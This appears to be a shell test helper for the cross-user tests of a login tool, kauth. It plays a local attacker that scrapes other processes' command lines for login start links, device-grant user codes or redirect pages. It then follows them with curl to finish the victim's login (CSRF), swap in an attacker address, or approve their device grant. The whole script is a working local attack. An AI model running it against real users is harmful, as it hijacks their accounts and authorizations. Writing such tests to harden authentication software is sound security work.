#!/bin/sh
# Another local user trying to finish someone else's kauth flow before their browser does, as
# the cross-user tests run it (under another uid). Every user can read every process's command
# line, so it watches them for what kauth hands a browser: a start link on kauth's listener, a
# device grant's verification URL with the user code in it, or the path of the page kauth writes
# instead. Whatever it finds it uses at once:
#   login   follow the start link to the provider and on to the victim's listener (the whole
#           login CSRF: the victim's kauth would exchange a code the attacker obtained);
#   picker  take the start link's kpidt URL, turn the picker into the "add an address" page and
#           let it return to the victim's listener with the attacker's address;
#   device  open the verification URL, which approves the victim's device grant.
# Usage: cross-user-attacker.sh MODE [URL]   (URL: use this instead of watching command lines)
# With WATCH set, only command lines that contain it are read (the tests name their own browser,
# so that another program's link on the same machine is not taken for the victim's).
# Prints what it found and what came of it, one "name=value" a line.
mode="$1"
found="$2"
if [ -z "$found" ]; then
  tries=0
  while [ -z "$found" ] && [ "$tries" -lt 1500 ]; do
    if [ -n "$WATCH" ]; then
      files="$(grep -laF -- "$WATCH" /proc/[0-9]*/cmdline 2>/dev/null)"
    else
      files="$(echo /proc/[0-9]*/cmdline)"
    fi
    # shellcheck disable=SC2086
    [ -z "$files" ] || found="$(grep -aohE 'http://127\.0\.0\.1:[0-9]+/start/[A-Za-z0-9_-]+|https?://[^[:cntrl:] ]*user_code=[^[:cntrl:] ]*|/[^[:cntrl:]]*/kauth-[A-Za-z0-9]{6}/open\.html' $files 2>/dev/null | head -n 1)"
    tries=$((tries + 1))
    [ -n "$found" ] || sleep 0.01
  done
fi
if [ -z "$found" ]; then
  echo "found=nothing"
  exit 0
fi
case "$found" in
  /*)
    echo "found=page"
    if ! url="$(sed -n 's/.*content="0;url=\([^"]*\)".*/\1/p' "$found" 2>/dev/null)" || [ -z "$url" ]; then
      echo "page=unreadable"
      exit 0
    fi
    url="$(printf '%s' "$url" | sed 's/&amp;/\&/g')"
    echo "page=read"
    ;;
  *)
    echo "found=url"
    url="$found"
    ;;
esac
case "$mode" in
  login|device)
    echo "result=$(curl -s -L --max-time 20 -o /dev/null -w '%{http_code}' "$url")"
    ;;
  picker)
    start="$(curl -s --max-time 20 -o /dev/null -w '%{http_code} %{redirect_url}' "$url")"
    echo "start=${start%% *}"
    location="${start#* }"
    [ -n "$location" ] || exit 0
    # continue=…/user/address?… becomes …/user/address/create?…
    location="$(printf '%s' "$location" | sed 's#%2Fuser%2Faddress%3F#%2Fuser%2Faddress%2Fcreate%3F#')"
    echo "result=$(curl -s -L --max-time 20 -o /dev/null -w '%{http_code}' "$location")"
    ;;
esac
